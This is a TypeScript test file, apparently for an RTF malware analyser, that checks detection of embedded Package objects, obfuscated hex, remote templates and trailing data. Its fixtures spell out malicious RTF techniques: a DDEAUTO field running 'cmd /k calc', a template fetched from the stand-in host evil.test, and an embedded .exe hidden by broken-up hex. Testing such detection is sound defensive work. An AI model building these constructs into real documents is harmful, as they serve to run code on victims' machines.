import assert from 'node:assert/strict';
import { test } from 'node:test';
import { nativeObject } from '../ole/test-kit.ts';
import { detailsOf, lookInto, pack, u32 } from '../test-kit.ts';

function oleObject(className: string, data: Uint8Array): string {
  const text = (value: string) => pack(u32(value.length + 1), `${value}\0`);
  const object = pack(u32(0x501, 2), text(className), text(''), text(''), u32(data.length), data);
  return object.toString('hex');
}

const content = Buffer.from('a file');
const native = nativeObject('a.exe', 'C:\\Users\\erika\\a.exe', content).subarray(4);

test('a package within is handed on, however its data are broken up', async () => {
  const hex = oleObject('Package', native);
  const broken = hex.replace(/(.{20})/g, '$1\n ').replace('50', "5{\\*\\x}\\'410");
  for (const [data, isBent] of [
    [hex, false],
    [broken, true],
  ] as const) {
    const looked = await lookInto(
      'rtf',
      `{\\rtf1 text{\\object\\objemb\\objupdate{\\*\\objdata ${data}}}}`,
    );
    const rtf = detailsOf(looked, 'rtf');
    assert.equal(rtf.objects[0]?.className, 'Package');
    assert.equal(rtf.objects[0]?.updates, true);
    assert.equal(rtf.objects[0]?.embedded[0]?.sourcePath, 'C:\\Users\\<user>\\a.exe');
    assert.deepEqual(Buffer.from(looked.members[0]?.bytes ?? []), content);
    assert.equal(rtf.obfuscated.length > 0, isBent);
  }
});

test('an equation is named, and a template from elsewhere', async () => {
  const object = oleObject('Equation.3', Buffer.alloc(40));
  const text = `{\\rt{\\*\\template http://evil.test/a.dotm}{\\object{\\*\\objdata ${object}}}}`;
  const rtf = detailsOf(await lookInto('rtf', text), 'rtf');
  assert.equal(rtf.objects[0]?.className, 'Equation.3');
  assert.equal(rtf.template, 'http://evil.test/a.dotm');
  assert.deepEqual(rtf.obfuscated, ['the header is not the usual one']);
});

test('fields, binary data, and what follows after the last group', async () => {
  const field = '{\\field{\\*\\fldinst { DDEAUTO }{cmd "/k calc"}}{\\fldrslt x}}';
  const bin = `{\\*\\objdata ${oleObject('X', Buffer.alloc(4))}\\bin4 {}{}}`;
  const text = `{\\rtf1${field}${bin}}${'z'.repeat(100)}`;
  const rtf = detailsOf(await lookInto('rtf', text), 'rtf');
  assert.equal(rtf.fields[0]?.instruction, 'DDEAUTO');
  assert.equal(rtf.overlay?.size, 100);
  assert.match(rtf.obfuscated.join(), /binary data/);
});

test('groups without end are read in one pass', async () => {
  const rtf = detailsOf(await lookInto('rtf', `{\\rtf1${'{\\a'.repeat(200_000)}`), 'rtf');
  assert.equal(rtf.depth, 200_001);
});
